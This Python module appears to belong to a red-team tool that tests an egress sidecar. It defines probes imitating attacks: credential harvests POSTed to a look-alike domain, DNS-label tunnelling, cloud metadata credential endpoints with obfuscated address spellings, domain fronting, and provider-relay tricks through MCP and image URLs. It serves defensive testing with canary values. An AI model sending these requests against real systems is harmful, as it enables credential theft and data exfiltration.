"""The probes of `egress-sidecar redteam`, each named after the attack it imitates.

A probe is data: what to send, from where, and which refusals count as the sidecar
holding. `build_catalogue` fills in the run's canaries and targets. Pure: no network
(the probes are sent by sidecar/redteam/probing.py).
"""

from __future__ import annotations

import base64
import dataclasses
import json

from sidecar.redteam.canaries import MARK, Canaries

LOOKALIKE = "models.litellm.cloud"  # the 2026 compromise's look-alike exfiltration domain
PROVIDER = "api.openai.com"
# The request reached past the policy, and only the network stopped it: not a hold.
ALLOWED_THEN_FAILED = frozenset({"dns_failure", "upstream_tls_failure"})
METADATA = frozenset({"metadata_address"})
NAME_REFUSED = frozenset({"host_not_allowed", "dns_name_not_allowed"})


@dataclasses.dataclass(frozen=True, slots=True)
class Http:
    method: str
    url: str  # the destination as the gateway names it (Host, SNI, CONNECT authority)
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    sni: str | None = None  # TLS server name when it differs from the URL's host
    connect_to: str | None = None  # pod mode: the address dialled ("target"/"target6")


@dataclasses.dataclass(frozen=True, slots=True)
class Dns:
    name: str
    qtype: str = "A"
    server: str | None = None  # None: the pod's resolver; "target": an outside resolver


@dataclasses.dataclass(frozen=True, slots=True)
class Datagram:
    to: str  # "target" or "target6"
    port: int
    payload: bytes


@dataclasses.dataclass(frozen=True, slots=True)
class RawTcp:
    to: str
    port: int
    payload: bytes


@dataclasses.dataclass(frozen=True, slots=True)
class Ping:
    to: str


Action = Http | Dns | Datagram | RawTcp | Ping


@dataclasses.dataclass(frozen=True, slots=True)
class Probe:
    name: str
    group: str
    attack: str
    action: Action
    expected: frozenset[str] = frozenset()  # reason codes that mean "held as designed"
    pod_only: bool = False  # direct egress: only meaningful from inside the pod
    # Aimed at an allowed provider, the attack in its content: when the provider itself
    # cannot be reached, the content checks never ran and nothing is proven.
    through_provider: bool = False


GROUPS = (
    "gateway_compromise",
    "cloud_metadata",
    "direct_egress",
    "fronting_and_literals",
    "key_handling",
    "llm_traffic",
)


def build_catalogue(canaries: Canaries, provider: str = f"https://{PROVIDER}") -> list[Probe]:
    """The probes of one run. `provider` is the allowed provider base URL that the
    content attacks (fronting, keys) are aimed at."""
    run = canaries.run_id
    chat = f"{provider.rstrip('/')}/v1/chat/completions"
    responses = f"{provider.rstrip('/')}/v1/responses"
    marked = f"{MARK}-{run}"
    harvest = canaries.harvest()
    exfil_host = f"{marked}.{LOOKALIKE}"
    tunnel_label = base64.b32encode(canaries.aws_access_key_id.encode()).decode().rstrip("=")
    json_post = (("content-type", "application/json"),)
    probes = [
        # --- the 2026 gateway compromise: credential harvest to a look-alike domain ---
        Probe("harvest_posted_over_https_to_lookalike_domain", "gateway_compromise",
              "environment, cloud and Kubernetes credentials POSTed over HTTPS to a look-alike",
              Http("POST", f"https://{exfil_host}/v1/telemetry", json_post, harvest,
                   connect_to="target"),
              NAME_REFUSED),
        Probe("harvest_posted_over_plain_http_to_lookalike_domain", "gateway_compromise",
              "the same harvest over plain HTTP",
              Http("POST", f"http://{exfil_host}/upload", json_post, harvest, connect_to="target"),
              NAME_REFUSED),
        Probe("harvest_posted_to_a_raw_public_address", "gateway_compromise",
              "the harvest POSTed to an IP address, no name to refuse",
              Http("POST", "http://{target}/upload", json_post, harvest, connect_to="target"),
              frozenset({"ip_literal", "private_address", "protocol_not_allowed"})),
        Probe("harvest_to_an_attacker_owned_resource_under_a_shared_wildcard",
              "gateway_compromise",
              "the harvest sent to a resource anyone can create under a provider's shared "
              "domain (a '*.openai.azure.com' entry lets it out)",
              Http("POST", f"https://{marked}.openai.azure.com/openai/deployments/x/"
                   "chat/completions", json_post, harvest, connect_to="target"),
              NAME_REFUSED),
        Probe("harvest_resolved_from_the_lookalike_domain", "gateway_compromise",
              "resolving the exfiltration domain (the first step of every exfiltration)",
              Dns(exfil_host), frozenset({"dns_refused", "dns_nxdomain"}), pod_only=True),
        Probe("harvest_tunnelled_in_dns_labels", "gateway_compromise",
              "a stolen key encoded into the labels of a DNS question",
              Dns(f"{tunnel_label[:60].lower()}.{run}.{LOOKALIKE}", "TXT"),
              frozenset({"dns_refused", "dns_nxdomain"}), pod_only=True),
        # --- cloud metadata: the credentials of the node or the pod's role ---
        Probe("imdsv1_credentials_by_address", "cloud_metadata",
              "AWS IMDSv1: the node role's credentials",
              Http("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
              METADATA),
        Probe("imdsv2_token_by_address", "cloud_metadata",
              "AWS IMDSv2: the session token PUT that precedes every credential read",
              Http("PUT", "http://169.254.169.254/latest/api/token",
                   (("x-aws-ec2-metadata-token-ttl-seconds", "60"),)),
              METADATA),
        Probe("gcp_metadata_by_name", "cloud_metadata",
              "GCP metadata server by its name: the service account's token",
              Http("GET", "http://metadata.google.internal/computeMetadata/v1/instance/"
                   "service-accounts/default/token", (("metadata-flavor", "Google"),)),
              NAME_REFUSED | METADATA | frozenset({"private_address", "dns_refused",
                                                   "dns_nxdomain"})),
        Probe("azure_imds_by_address", "cloud_metadata",
              "Azure IMDS: a managed identity token",
              Http("GET", "http://169.254.169.254/metadata/identity/oauth2/token"
                   "?api-version=2018-02-01&resource=https://management.azure.com/",
                   (("metadata", "true"),)),
              METADATA),
        Probe("ecs_task_credentials_by_address", "cloud_metadata",
              "AWS ECS task role credentials", Http("GET", "http://169.254.170.2/v2/credentials/"),
              METADATA),
        Probe("eks_pod_identity_by_address", "cloud_metadata",
              "EKS Pod Identity agent: the pod role's credentials",
              Http("GET", "http://169.254.170.23/v1/credentials"), METADATA),
        Probe("imds_over_ipv6", "cloud_metadata", "AWS IMDS over IPv6",
              Http("GET", "http://[fd00:ec2::254]/latest/meta-data/"), METADATA),
        # --- around the sidecar ---
        Probe("direct_tcp_to_a_public_address", "direct_egress",
              "a non-HTTP TCP connection (an SSH banner) straight to the internet",
              RawTcp("target", 22, b"SSH-2.0-" + marked.encode() + b"\r\n"),
              frozenset({"protocol_not_allowed", "closed"}), pod_only=True),
        Probe("direct_udp_to_a_public_address", "direct_egress",
              "a UDP datagram straight to the internet", Datagram("target", 443, harvest[:512]),
              pod_only=True),
        Probe("quic_to_a_public_address", "direct_egress",
              "HTTP/3 (QUIC, UDP 443) around the TCP redirect",
              Datagram("target", 443, b"\xc3\x00\x00\x00\x01" + marked.encode()), pod_only=True),
        Probe("direct_tcp_over_ipv6", "direct_egress",
              "the harvest over IPv6, where only IPv4 rules may exist",
              Http("POST", "http://[{target6}]/upload", json_post, harvest, connect_to="target6"),
              frozenset({"ip_literal", "private_address", "protocol_not_allowed"}),
              pod_only=True),
        Probe("icmp_to_a_public_address", "direct_egress", "ICMP echo (ping tunnels)",
              Ping("target"), pod_only=True),
        Probe("dns_to_an_outside_resolver", "direct_egress",
              "DNS asked of an outside resolver instead of the pod's",
              Dns(exfil_host, server="target"), frozenset({"dns_refused", "dns_nxdomain"}),
              pod_only=True),
        # --- fronting and literals ---
        Probe("sni_of_provider_with_lookalike_host_header", "fronting_and_literals",
              "domain fronting: TLS names the provider, the request names the look-alike",
              Http("POST", chat, (("host", exfil_host), *json_post), harvest),
              frozenset({"host_mismatch"}), through_provider=True),
        Probe("connect_to_provider_with_lookalike_sni", "fronting_and_literals",
              "domain fronting: CONNECT to the provider, then TLS with the look-alike's name",
              Http("GET", chat.replace("/chat/completions", "/models"), sni=exfil_host),
              frozenset({"host_mismatch", "host_not_allowed", "tls_refused"}),
              through_provider=True),
        *[
            Probe(f"metadata_as_{kind}_literal", "fronting_and_literals",
                  f"the metadata address spelled as {kind} to slip past a string match",
                  Http("GET", f"http://{spelling}/latest/meta-data/"),
                  METADATA | frozenset({"invalid_host", "ip_literal"}))
            for kind, spelling in (
                ("decimal", "2852039166"),
                ("hex", "0xa9fea9fe"),
                ("octal", "0251.0376.0251.0376"),
                ("ipv4_mapped_ipv6", "[::ffff:169.254.169.254]"),
                ("nat64", "[64:ff9b::a9fe:a9fe]"),
            )
        ],
        # --- key handling ---
        Probe("gateway_holding_a_real_provider_key", "key_handling",
              "the gateway sends a key of its own (a stolen or attacker's key) to the provider",
              Http("POST", chat, (("authorization", f"Bearer {canaries.openai_key}"),
                                  *json_post), b'{"model":"gpt-4o-mini","messages":[]}'),
              frozenset({"gateway_holds_credential"}), through_provider=True),
        Probe("anthropic_key_sent_to_another_provider", "key_handling",
              "a key of one provider reused towards another",
              Http("POST", chat, (("x-api-key", canaries.anthropic_key), *json_post),
                   b'{"model":"gpt-4o-mini","messages":[]}'),
              frozenset({"gateway_holds_credential"}), through_provider=True),
        Probe("key_in_the_query_string", "key_handling",
              "a key smuggled in the URL's query string",
              Http("GET", chat.replace("/chat/completions", "/models")
                   + f"?api_key={canaries.openai_key}"),
              frozenset({"gateway_holds_credential"}), through_provider=True),
        # --- LLM traffic: the allowed provider used as a relay, secrets in prompts ---
        Probe("mcp_server_on_the_lookalike_in_a_responses_request", "llm_traffic",
              "the provider asked to call an MCP server the attacker runs, carrying the "
              "conversation (the provider as a relay)",
              Http("POST", responses, json_post, json.dumps({
                  "model": "gpt-4o-mini", "input": "hi",
                  "tools": [{"type": "mcp", "server_label": "x", "require_approval": "never",
                             "server_url": f"https://{exfil_host}/mcp"}],
              }).encode()),
              frozenset({"provider_fetch_not_allowed"}), through_provider=True),
        Probe("image_url_on_the_lookalike_for_the_provider_to_fetch", "llm_traffic",
              "data carried in a URL the provider is asked to fetch",
              Http("POST", chat, json_post, json.dumps({
                  "model": "gpt-4o-mini",
                  "messages": [{"role": "user", "content": [{"type": "image_url",
                      "image_url": {"url": f"https://{exfil_host}/{tunnel_label[:32]}.png"}}]}],
              }).encode()),
              frozenset({"provider_fetch_not_allowed"}), through_provider=True),
        Probe("credential_harvest_pasted_into_a_prompt", "llm_traffic",
              "the harvest sent to an allowed provider inside a prompt, to be read back "
              "from the provider account's logs",
              Http("POST", chat, json_post, json.dumps({
                  "model": "gpt-4o-mini",
                  "messages": [{"role": "user", "content": harvest.decode()}],
              }).encode()),
              frozenset({"secret_in_request", "gateway_holds_credential"}),
              through_provider=True),
        Probe("realtime_client_secret_minted_for_outside_use", "llm_traffic",
              "a token minted with our key that works from outside the pod",
              Http("POST", f"{provider.rstrip('/')}/v1/realtime/client_secrets", json_post,
                   b'{"session":{"type":"realtime","model":"gpt-realtime"}}'),
              frozenset({"credential_minting_not_allowed"}), through_provider=True),
    ]  # fmt: skip
    return probes
